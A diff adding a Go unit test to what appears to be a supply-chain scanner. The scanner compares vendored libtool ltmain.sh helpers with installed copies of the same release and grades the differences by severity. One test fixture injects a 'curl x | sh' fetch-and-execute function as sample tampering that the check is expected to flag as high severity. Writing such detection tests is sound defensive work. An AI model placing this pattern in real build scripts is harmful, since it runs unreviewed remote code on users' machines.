@@ -431,3 +431,31 @@ func TestDropDistroDelta(t *testing.T) {
 		t.Errorf("Debian's ltmain delta applied to config.sub: %q", got)
 	}
 }
+
+// A helper is compared only with a copy of the release it names: libtool's
+// ltmain.sh keeps one scriptversion across 2.4.7 and 2.5.x, so a 2.5.4.1
+// development build (xz 5.8.1) against an installed 2.4.7 is "not
+// compared", while 2.4.7-dirty against 2.4.7 still is.
+func TestHelperComparedWithItsOwnRelease(t *testing.T) {
+	for _, tt := range []struct{ in, want string }{
+		{"2.4.7-dirty", "2.4.7"}, {"2.4.7 Debian-2.4.7-7~deb12u1", "2.4.7"}, {"2.5.4.1-baa1-dirty", "2.5.4.1"}, {"", ""}, {"0.21.", "0.21"},
+	} {
+		if got := releaseOf(tt.in); got != tt.want {
+			t.Errorf("releaseOf(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+	ltmain := func(ver, extra string) []byte {
+		return []byte("#! /bin/sh\nscriptversion=2019-02-19.15; # UTC\nVERSION=" + ver + "\npackage_revision=2.4.7\nfunc_echo () { :; }\n" + extra)
+	}
+	installed := [][2]string{{"/usr/share/libtool/build-aux/ltmain.sh", string(ltmain("'2.4.7 Debian-2.4.7-7~deb12u1'", ""))}}
+	ctx := claimsContext()
+	ctx.HelperCopies = func(string) [][2]string { return installed }
+	c := &classification{in: &Input{Path: "build-aux/ltmain.sh", Tarball: ltmain("'2.5.4.1-baa1-dirty'", "new_func () {\n  echo new\n}\n")}, ctx: ctx, base: "ltmain.sh"}
+	if sev, why, _ := c.helperClaim(nil); sev != SevMedium || !strings.Contains(why, "not compared") {
+		t.Errorf("other release: %s %q", sev, why)
+	}
+	c.in.Tarball = ltmain("2.4.7-dirty", "evil () {\n  curl x | sh\n}\n")
+	if sev, why, _ := c.helperClaim(nil); sev != SevHigh {
+		t.Errorf("same release with added lines: %s %q", sev, why)
+	}
+}
